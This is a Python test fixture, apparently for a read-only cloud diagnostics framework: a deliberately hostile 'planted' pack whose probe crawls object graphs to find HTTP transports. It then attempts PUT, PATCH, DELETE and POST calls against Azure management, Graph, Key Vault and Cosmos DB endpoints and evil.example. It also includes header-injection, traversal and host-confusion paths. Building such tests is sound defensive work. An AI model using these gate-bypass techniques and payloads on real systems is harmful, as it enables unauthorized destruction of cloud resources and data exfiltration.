"""A pack that means harm: its probe tries to write through everything that it can reach from what it is given."""

from __future__ import annotations

import asyncio
import inspect
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass
from typing import Any

from diagnostics import Check, Evidence, Kind, Look, Pack, Permission, Seen, Severity, Step
from diagnostics.simulator import ids

TRIED = Kind("ZZ101", "tried-to-write", Severity.INFO, "A write was tried", Step.DOCTOR)
ANY = Permission("arm", "*", "Owner")
VERBS = ("PUT", "PATCH", "DELETE", "POST")
ARM = "https://management.azure.com"
URLS = (
    f"{ARM}{ids.KEY_ID}?api-version=2024-11-01",
    f"https://graph.microsoft.com/v1.0/servicePrincipals/{ids.ADOBE_OID}",
    f"https://{ids.VAULT}.vault.azure.net/keys/{ids.KEY}/rotate?api-version=7.4",
    f"https://{ids.ACCOUNT}.documents.azure.com/dbs",
    f"https://login.microsoftonline.com/{ids.TENANT}/oauth2/v2.0/logout",
    "https://evil.example/",
)
ODD_PATHS = (
    f"{ids.KEY_ID}\r\nX-HTTP-Method-Override: DELETE",
    "https://evil.example/x",
    "//evil.example/x",
    "/../../x",
    f"{ids.ACCOUNT_ID}/listKeys#",
    "@evil.example/",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class Tries(Evidence):
    """What came of each try; empty = it went out."""

    refusals: tuple[str, ...]
    answered: tuple[str, ...]


async def probe(look: Look) -> Tries:
    refusals: list[str] = []
    answered: list[str] = []
    async for name, attempt in attempts(look):
        try:
            answer = await asyncio.wait_for(attempt, 5)
        except Exception as error:  # noqa: BLE001 - whatever stops it is what is wanted
            refusals.append(f"{name}: {type(error).__name__}: {error}")
        else:
            answered.append(f"{name}: {answer!r}"[:80])
    return Tries(observed_at=look.now(), refusals=tuple(refusals), answered=tuple(answered))


async def attempts(look: Any) -> AsyncIterator[tuple[str, Any]]:
    for path in ODD_PATHS:
        yield f"arm {path}", look.arm.get(path, "2024-11-01", permission=ANY)
        yield f"graph {path}", look.msgraph.get(path, permission=ANY)
    from azure.core.rest import HttpRequest

    await look.arm.get(
        ids.ACCOUNT_ID, "2024-11-15", permission=ANY
    )  # now a token is there to misuse
    for thing in reachable(look):
        for verb in VERBS:
            for url in URLS:
                name = f"{type(thing).__name__} {verb} {url}"
                if type(thing).__name__ == "ClientSession":
                    yield name, below(thing, verb, url)
                elif hasattr(thing, "send"):
                    yield name, thing.send(HttpRequest(verb, url, json={}))
                elif hasattr(thing, "send_request"):
                    yield name, thing.send_request(HttpRequest(verb, url, json={}))


async def below(session: Any, verb: str, url: str) -> object:
    """Ask of the session below the transport, as if there were no gate."""
    async with session.request(verb, url, data=b"{}") as answer:
        return answer.status


def reachable(root: object) -> Iterator[Any]:
    """Walk everything that hangs on an object: attributes, slots, closures, containers."""
    seen: dict[int, object] = {}
    waiting = [root]
    while waiting and len(seen) < 20000:
        thing = waiting.pop()
        if (
            id(thing) in seen
            or inspect.ismodule(thing)
            or isinstance(thing, (str, bytes, int, type))
        ):
            continue
        seen[id(thing)] = thing
        waiting.extend(parts(thing))
        kind = type(thing).__name__
        if kind in ("Transport", "ClientSession", "AsyncPipelineClient"):
            yield thing


def parts(thing: Any) -> list[object]:
    found: list[object] = []
    if isinstance(thing, dict):
        found += thing.values()
    elif isinstance(thing, (list, tuple, set, frozenset)):
        found += thing
    found += getattr(thing, "__dict__", {}).values()
    for base in type(thing).__mro__:
        slots = base.__dict__.get("__slots__", ())
        for name in (slots,) if isinstance(slots, str) else slots:
            found.append(getattr(thing, name, None))
    if inspect.isfunction(thing):
        found += [cell.cell_contents for cell in thing.__closure__ or () if holds(cell)]
    if inspect.ismethod(thing):
        found.append(thing.__self__)
    return found


def holds(cell: Any) -> bool:
    try:
        cell.cell_contents  # noqa: B018 - an empty cell raises
    except ValueError:
        return False
    return True


def judge(tries: Tries, _: Seen) -> Iterator[Any]:
    yield TRIED.found("planted", f"{len(tries.refusals)} tries were refused")


PACK = Pack(
    name="planted",
    checks=(
        Check(
            id="planted.writes",
            title="Nothing can be written",
            provides=Tries,
            probe=probe,
            judge=judge,
            kinds=(TRIED,),
            step=Step.DOCTOR,
            timeout_s=30,
        ),
    ),
)
